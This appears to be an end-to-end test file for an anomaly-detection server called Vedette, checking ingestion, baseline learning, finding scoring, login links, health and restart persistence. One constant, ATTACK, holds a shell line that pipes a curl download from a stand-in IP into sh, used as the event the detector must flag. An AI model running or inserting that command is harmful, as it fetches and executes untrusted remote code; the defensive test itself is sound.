// The whole server in this process, with its real stores, asked over HTTP.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { VedetteError } from '@vedette/core';
import { z } from 'zod';

import { CoverageReport, EventsPage, Facet, Histogram, StoredEvent } from './api/event-schemas.ts';
import { FindingsPage } from './api/finding-schemas.ts';
import { Health } from './health/health.ts';
import { HostDetail, HostsList } from './hosts/host.ts';
import { Problem } from './api/problem.ts';
import { FindingTree } from './api/story-routes.ts';
import { PreviewAnswer, ScoresAnswer, ShapesPage, WorkloadAnswer } from './api/workload-schemas.ts';
import { readEndpoint } from './endpoint.ts';
import { ServerFinding } from './findings/finding.ts';
import { createServer } from './server.ts';
import { openBrowser } from './sessions/testing/browser.ts';
import type { RunningServer, ServerSettings } from './server-settings.ts';

const folder = mkdtempSync(join(tmpdir(), 'vedette-server-'));
const ATTACK = ['bash', '-c', 'curl http://203.0.113.7/x | sh'];
let server: RunningServer;
let token = '';

before(async () => {
  await start();
});

after(async () => {
  await server.close();
  rmSync(folder, { recursive: true, force: true });
});

function settings(other: Partial<ServerSettings> = {}): ServerSettings {
  return {
    ...{ stateFolder: folder, listen: '127.0.0.1', port: 0, publicNames: [], name: 'main' },
    ...{
      events: { engine: 'chdb' },
      baselines: null,
      webhooks: [],
      sweeps: null,
      pages: null,
      containment: null,
    },
    ...{ owner: 'ann', version: '0.0.0', retentionDays: 7, log: () => undefined },
    ...{ nowMs: Date.now, random: () => 0.5, ...other },
  };
}

async function start(): Promise<void> {
  server = await createServer(settings());
  token = server.grant('operate', 'ann');
}

async function ask<Schema extends z.ZodType>(
  schema: Schema,
  path: string,
  init: { readonly method?: string; readonly body?: object } = {},
): Promise<z.infer<Schema>> {
  const { method = 'GET', body } = init;
  const response = await fetch(`${server.url}${path}`, {
    method,
    headers: {
      authorization: `Bearer ${token}`,
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  return schema.parse(await response.json());
}

/** Events as the published agent sends them. */
async function send(commands: readonly (readonly string[])[]): Promise<void> {
  const ingest = server.grant('ingest', 'a sensor');
  const events = commands.map((argv, index) => ({
    ...{ ts: Date.now(), node: 'web-1', workload: 'web', pid: 100 + index, severity: 'info' },
    ...{ process_name: argv[0], cmdline: argv.join(' '), parent_process: 'systemd' },
    event_type: 'unusual_process',
  }));
  const response = await fetch(`${server.url}/otlp/v1/events`, {
    method: 'POST',
    headers: { authorization: `Bearer ${ingest}`, 'content-type': 'application/json' },
    body: JSON.stringify(events),
  });
  assert.deepEqual([response.status, await response.text()], [200, '{}']);
}

/** Asks until it is so: what was acknowledged is scored and stored a moment later. */
async function until<T>(look: () => Promise<T>, done: (seen: T) => boolean): Promise<T> {
  for (;;) {
    const seen = await look();
    if (done(seen)) return seen;
  }
}

const eventsOf = (query: string): Promise<EventsPage> => ask(EventsPage, `/v1/events?${query}`);

test('from what a sensor sends to what a person decides', { timeout: 100_000 }, async () => {
  const usual = ['nginx -s reload', 'logrotate /etc/logrotate.conf', 'php-fpm --test'];
  await send(Array.from({ length: 60 }, (_, index) => (usual[index % 3] ?? '').split(' ')));
  await until(
    () => eventsOf('workload=web'),
    ({ events }) => events.length === 60,
  );
  const ended = await ask(WorkloadAnswer, '/v1/workloads/web/end-learning', { method: 'POST' });
  assert.equal(ended.state, 'watching');
  const alerting = { method: 'PUT', body: { alerting: { threshold: 0.5 } } };
  const chosen = await ask(WorkloadAnswer, '/v1/workloads/web/alerting', alerting);
  assert.equal(chosen.threshold, 0.5);

  await send([ATTACK]);
  const { findings } = await until(
    () => ask(FindingsPage, '/v1/findings'),
    ({ total }) => total > 0,
  );
  const [finding] = findings;
  assert.ok(finding !== undefined && finding.score >= 0.5, JSON.stringify(finding));
  assert.equal(finding.subject, 'web');
  const scored = await until(
    () => eventsOf(`finding=${finding.id}`),
    ({ events }) => events.length === 1,
  );
  assert.equal(scored.events[0]?.threshold, 0.5);

  const reason = { method: 'POST', body: { reason: 'our installer', days: 30 } };
  const expected = await ask(ServerFinding, `/v1/findings/${finding.id}/expect`, reason);
  assert.equal(expected.life.state, 'expected');
  assert.ok('by' in expected.life && expected.life.by === 'ann');
  assert.equal((await ask(FindingsPage, '/v1/findings')).total, 0);
  assert.equal((await ask(FindingsPage, '/v1/findings?state=expected')).total, 1);
});

test('who started it logs in by a link, and decides by the session', async () => {
  const browser = openBrowser(Number(new URL(server.url).port));
  const [origin, code = ''] = server.loginLink().split('/login#code=');
  assert.equal(origin, server.url);
  assert.equal((await browser.post('/v1/session', { code })).status, 200);
  assert.deepEqual([browser.session().name, browser.session().scope], ['ann', 'operate']);
  assert.equal((await browser.ask('/v1/findings')).status, 200);
  assert.equal((await browser.post('/v1/session', { code })).status, 401);
});

test('hosts, coverage, and events by time and by field', async () => {
  const { hosts } = await ask(HostsList, '/v1/hosts');
  assert.deepEqual(
    hosts.map(({ host, events, coverageMs }) => [host, events, coverageMs]),
    [['web-1', 61, null]],
  );
  assert.deepEqual(await ask(CoverageReport, '/v1/coverage'), { hosts: [] });
  const { buckets } = await ask(Histogram, '/v1/events/histogram?buckets=10');
  assert.equal(
    buckets.reduce((sum, { events }) => sum + events, 0),
    61,
  );
  const { values } = await ask(Facet, '/v1/events/facets/exe?minScore=0.5&limit=1000');
  assert.ok(values.some(({ value }) => value.endsWith('bash')));
});

test('what pages ask for: scores, health, one host, one event, the story of a finding', async () => {
  const scores = await ask(ScoresAnswer, '/v1/workloads/web/scores');
  assert.deepEqual([scores.days, scores.perDay.length], [7, 7]);
  assert.ok(scores.distinct.some(({ argv }) => argv.join(' ') === ATTACK.join(' ')));
  const preview = await ask(PreviewAnswer, '/v1/workloads/web/preview?threshold=0.5');
  assert.deepEqual([preview.alerts, preview.perDay[6], preview.threshold], [1, 1, 0.5]);
  const [example] = preview.examples;
  const event = await ask(StoredEvent, `/v1/events/${example?.eventId ?? ''}`);
  assert.equal(event.event.argv.join(' '), ATTACK.join(' '));
  const host = await ask(HostDetail, '/v1/hosts/web-1');
  assert.deepEqual([host.sweep, host.findings.length], [null, 1]);
  assert.equal(
    host.perHour.reduce((sum, executions) => sum + executions, 0),
    61,
  );
  const tree = await ask(FindingTree, `/v1/findings/${event.finding ?? ''}/tree`);
  assert.ok(tree.nodes.some(({ isSubject, argv }) => isSubject && argv.includes('-c')));
  const health = await ask(Health, '/v1/health');
  assert.equal(health.ready.ready, true);
  assert.equal(health.ingest.events, 61);
  assert.equal(health.stores.events?.rows, 61);
  assert.equal(health.sweeps, null);
  assert.equal((await ask(Problem, '/v1/hosts/sweep', { method: 'POST' })).code, 'sweeps-off');
});

test('what is not there is not decided about', async () => {
  const reopen = { method: 'POST' };
  const finding = await ask(Problem, '/v1/findings/x-000000000000/reopen', reopen);
  assert.equal(finding.code, 'finding-not-there');
  const workload = await ask(Problem, '/v1/workloads/no%2Fsuch/end-learning', reopen);
  assert.equal(workload.code, 'workload-not-there');
  const shape = await ask(Problem, '/v1/workloads/web/shapes/none/forget', reopen);
  assert.equal(shape.code, 'shape-not-there');
});

test('it is ready, and says by what', async () => {
  const Ready = z.strictObject({
    ready: z.literal(true),
    checks: z.record(z.string(), z.string()),
  });
  const { checks } = await ask(Ready, '/readyz');
  assert.deepEqual(Object.keys(checks).toSorted(), [
    ...['audit', 'baselines', 'engine', 'events', 'journal', 'lag'],
  ]);
});

test('a second server of the folder, and one of the port, are refused', async () => {
  await assert.rejects(
    () => createServer(settings()),
    (error: unknown) =>
      error instanceof VedetteError &&
      error.code === 'server-running' &&
      error.message.includes(server.url),
  );
  const other = mkdtempSync(join(tmpdir(), 'vedette-server-other-'));
  try {
    const port = Number(new URL(server.url).port);
    await assert.rejects(
      () => createServer(settings({ stateFolder: other, port })),
      (error: unknown) => error instanceof VedetteError && error.code === 'port-in-use',
    );
  } finally {
    rmSync(other, { recursive: true, force: true });
  }
});

test('the next start finds everything again', { timeout: 100_000 }, async () => {
  const shapes = await ask(ShapesPage, '/v1/workloads/web/shapes');
  assert.ok(shapes.shapes.every(({ confirmedMs, trust }) => confirmedMs === null || trust > 0.99));
  assert.ok(shapes.shapes.some(({ trust }) => trust > 0.5));
  await server.close();
  assert.equal(await readEndpoint(folder), undefined);
  await start();
  assert.deepEqual(await ask(ShapesPage, '/v1/workloads/web/shapes'), shapes);
  assert.equal((await ask(FindingsPage, '/v1/findings?state=expected')).total, 1);
  assert.equal((await eventsOf('workload=web')).events.length, 61);
  assert.equal((await ask(WorkloadAnswer, '/v1/workloads/web')).threshold, 0.5);
});
